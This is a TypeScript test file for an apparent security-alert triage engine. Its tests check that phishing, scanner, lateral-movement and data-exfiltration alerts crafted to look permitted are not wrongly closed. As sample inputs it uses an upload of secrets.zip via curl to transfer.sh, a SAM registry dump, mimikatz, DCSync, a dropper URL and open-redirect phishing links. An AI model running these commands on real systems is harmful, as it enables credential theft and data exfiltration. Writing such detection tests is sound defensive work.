import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert, AlertType } from '../../../domain/alert';
import { decide } from '../../../domain/decide';
import { observableId } from '../../../domain/observable';
import { playbookFor } from '../../../domain/playbooks';
import { accuse, caseOf, judge, noIocs } from './cases';
import { judgedBySilence, TRUSTING } from './trusting';

/** What one who knows the rules would try: harm that looks as if the site had allowed it. */

/** As far as sources know, all of it is clean. */
function judged(type: AlertType, alert: Partial<Alert>, unknown: string[] = []): ReturnType<typeof judgedBySilence> {
  return judgedBySilence(type, alert, { unknown });
}

const FRAUD: Partial<Alert> = {
  email_from: 'ceo.private@gmail.com',
  reply_to: 'ceo@consultant-mail.top',
  email_to: ['cfo@corp.example'],
  src_ip: '185.220.101.1',
};

test('a mail from outside is not cleared by the own page that it quotes', () => {
  const { assessment, decision } = judged('phishing', { ...FRAUD, url: 'https://www.corp.example/about' });
  assert.deepEqual([assessment.verdict, decision.outcome], ['unknown', 'open']);
});

test('nor one from a forged own sender', () => {
  const forged = { ...FRAUD, email_from: 'it@corp.example', url: 'https://www.corp.example/about' };
  assert.equal(judged('phishing', forged).assessment.verdict, 'unknown');
});

test('an own page that leads on to another host is not clean, in a mail from inside either', () => {
  const inside = { email_from: 'hr@corp.example', src_ip: '10.0.0.25' };
  assert.equal(judged('phishing', { ...inside, url: 'https://www.corp.example/canteen' }).assessment.verdict, 'benign');
  for (const url of [
    'https://login.corp.example/sso?RelayState=https://evil-login.top/steal',
    'https://www.corp.example/redirect?to=//evil-login.top',
    'https://www.corp.example/r?u=https%3A%2F%2Fevil-login.top',
  ]) {
    assert.notEqual(judged('phishing', { ...inside, url }).assessment.verdict, 'benign', url);
  }
});

test('what gets in from the address of an allowed scanner is no scan', () => {
  const scan = { src_ip: '10.0.9.7', dest_ip: '10.0.0.10' };
  for (const type of ['suspicious_ip', 'brute_force'] as const) {
    assert.equal(judged(type, scan).decision.outcome, 'close', type);
    assert.notEqual(judged(type, { ...scan, outcome: 'success' }).decision.outcome, 'close', type);
  }
  const dropper = 'http://unknown-dropper.top/x.ps1';
  for (const change of [
    { process: 'cmd.exe' },
    { url: dropper },
    { file_hash: '0a'.repeat(32) },
    { file_name: 'x.aspx' },
  ]) {
    const { decision } = judged('suspicious_ip', { ...scan, ...change }, [dropper, 'unknown-dropper.top']);
    assert.notEqual(decision.outcome, 'close', JSON.stringify(change));
  }
});

test('much data is told of, whatever inside or known name stands beside a foreign one', () => {
  const much = { hostname: 'ws1', bytes_out: 900_000_000_000 };
  const known = { ...much, domain: 'contoso-partner.com' };
  assert.notEqual(judged('data_exfil', known).decision.outcome, 'escalate');
  for (const change of [
    { url: 'https://mega.nz/x', dest_ip: '10.0.0.80' },
    { domain: 'corp.local', dest_ip: '45.155.205.233' },
    { domain: 'contoso-partner.com', url: 'https://mega.nz/x' },
  ]) {
    assert.equal(judged('data_exfil', { ...much, ...change }).decision.outcome, 'escalate', JSON.stringify(change));
  }
  assert.notEqual(judged('data_exfil', { ...known, dest_ip: '45.155.205.233' }).decision.outcome, 'close');
});

test('guessing from outside casts no suspicion on an account; a guess that was right does', () => {
  const alert = {
    src_ip: '10.0.0.5',
    dest_ip: '10.0.0.10',
    hostname: 'app1',
    username: 'svc-backup',
    process: 'psexec.exe',
  };
  const guess = {
    ...({ id: 'INC-1', alert_type: 'brute_force', verdict: 'malicious', resolution: null } as const),
    ...{ at: '2026-11-23T08:00:00Z', shares: ['user:svc-backup'] as ['user:svc-backup'], hosts: [] },
  };
  const signals = (techniques: string[], username = alert.username) =>
    playbookFor('lateral_movement')
      .signals({
        ...caseOf({ ...alert, username }, TRUSTING),
        earlier: [{ ...guess, techniques, shares: [`user:${username}`] }],
      })
      .filter(({ name }) => name === 'earlier_alarm');
  assert.deepEqual(signals(['T1110']), []);
  assert.equal(signals(['T1110', 'T1078']).length, 1);
  // every machine has it
  assert.deepEqual(signals(['T1078'], 'NT AUTHORITY\\SYSTEM'), []);
});

test('the hash of nothing shows nothing', () => {
  const { assessment } = judged('malware', { file_hash: 'd41d8cd98f00b204e9800998ecf8427e', outcome: 'blocked' });
  assert.equal(assessment.verdict, 'unknown');
});

test('what ran is not closed by a harmless address', () => {
  for (const type of ['suspicious_ip', 'brute_force'] as const) {
    const alert = { src_ip: '93.158.1.1', dest_ip: '10.0.0.4', direction: 'inbound' } as const;
    assert.equal(judged(type, alert).decision.outcome, 'close', type);
    assert.equal(judged(type, { ...alert, executed: true }).decision.outcome, 'open', type);
  }
});

test('an allowed pair is no leave from a host where harm was proven the same day', () => {
  const alert = { src_ip: '10.0.0.5', src_hostname: 'jump01', dest_ip: '10.0.0.10', username: 'svc-deploy' };
  const facts = caseOf(alert, {
    ...TRUSTING,
    admin_pairs: [{ source: '10.0.0.5', destination: '*', user: 'svc-deploy' }],
  });
  const decided = (verdict: 'malicious' | 'suspicious') => {
    const before = {
      id: 'INC-1',
      alert_type: 'malware',
      resolution: null,
      at: '2026-11-23T08:00:00Z',
      hosts: [],
    } as const;
    const earlier = [{ ...before, verdict, hosts: [], shares: ['host:jump01' as const] }];
    const known = { ...facts, earlier };
    return decide(
      playbookFor('lateral_movement'),
      known,
      judge('lateral_movement', known, noIocs('lateral_movement', known)),
    );
  };
  assert.equal(decided('suspicious').outcome, 'close');
  assert.equal(decided('malicious').outcome, 'open');
});

test('our own database ends the leave of a scanner', () => {
  const facts = caseOf({ src_ip: '10.0.9.7', dest_ip: '10.0.0.10' }, TRUSTING);
  for (const type of ['suspicious_ip', 'brute_force'] as const) {
    const others = noIocs(type, facts).filter(({ finding }) => finding.observable !== 'ip:10.0.9.7');
    const assessment = judge(type, facts, [...others, accuse('iocs', 'ip:10.0.9.7', 90)]);
    assert.notEqual(assessment.verdict, 'benign', type);
  }
});

test('an allowed pair is no leave for stolen credentials, nor for the Internet', () => {
  const site = { ...TRUSTING, admin_pairs: [{ source: '10.0.0.5', destination: '*', user: 'svc-deploy' }] };
  const alert: Partial<Alert> = { src_ip: '10.0.0.5', dest_ip: '10.0.0.10', username: 'svc-deploy' };
  const verdict = (change: Partial<Alert>) => {
    const facts = caseOf({ ...alert, ...change }, site);
    return judge('lateral_movement', facts, noIocs('lateral_movement', facts)).verdict;
  };
  assert.equal(verdict({}), 'benign');
  for (const change of [
    { mitre: ['T1550.002'] },
    { file_name: 'mimikatz.exe' },
    { raw_log: 'DCSync of the domain' },
    { command_line: 'reg save HKLM\\SAM c:\\x' },
    { dest_ip: '45.155.205.233' },
  ]) {
    assert.notEqual(verdict(change), 'benign', JSON.stringify(change));
  }
});

test('a mail is not closed while its replies go elsewhere, or an attachment has no hash', () => {
  const clean = { email_from: 'a@newsletter.com', url: 'https://newsletter.com/1', src_ip: '93.158.1.1' };
  assert.equal(judged('phishing', clean).decision.outcome, 'close');
  assert.equal(judged('phishing', { ...clean, reply_to: 'b@elsewhere.top' }).decision.outcome, 'open');
  assert.equal(judged('phishing', { ...clean, file_name: 'invoice.html' }).decision.outcome, 'open');
  const inside = { email_from: 'hr@corp.example', src_ip: '10.0.0.25', url: 'https://www.corp.example/canteen' };
  assert.notEqual(judged('phishing', { ...inside, reply_to: 'hr@elsewhere.top' }).decision.outcome, 'close');
  for (const query of ['to=evil-login.top/steal', 'to=/%5Cevil-login.top', 'u=aHR0cHM6Ly9ldmlsLWxvZ2luLnRvcA']) {
    const led = { ...inside, url: `https://www.corp.example/r?${query}` };
    assert.notEqual(judged('phishing', led).decision.outcome, 'close', query);
  }
});

test('a small transfer is not closed while its text names a place that nobody knows, or a mail leaves', () => {
  const small = { domain: 'contoso-partner.com', bytes_out: 5_000_000 };
  assert.equal(judged('data_exfil', small).decision.outcome, 'close');
  for (const change of [
    { command_line: 'curl -T secrets.zip https://transfer.sh/x' },
    { email_to: ['private@gmail.com'] },
  ]) {
    assert.notEqual(judged('data_exfil', { ...small, ...change }).decision.outcome, 'close', JSON.stringify(change));
  }
});

test('ten addresses in one country are no ten reasons', () => {
  const site = { ...TRUSTING, countries: { expected: [], watched: ['IR'] } };
  const points = (count: number) => {
    const alerts = Array.from({ length: count }, (_, index) => ({ src_ip: `93.158.1.${index + 1}` }));
    const facts = caseOf(alerts, site);
    const told = facts.observables.map((one) => ({
      ...{ source: 'geoip', observable: observableId(one), evidence: '1/geoip', country: 'IR' },
    }));
    return playbookFor('suspicious_ip')
      .signals({ ...facts, told })
      .map(({ name }) => name);
  };
  assert.deepEqual(points(1), ['watched_country']);
  assert.deepEqual(points(10), ['watched_country']);
});
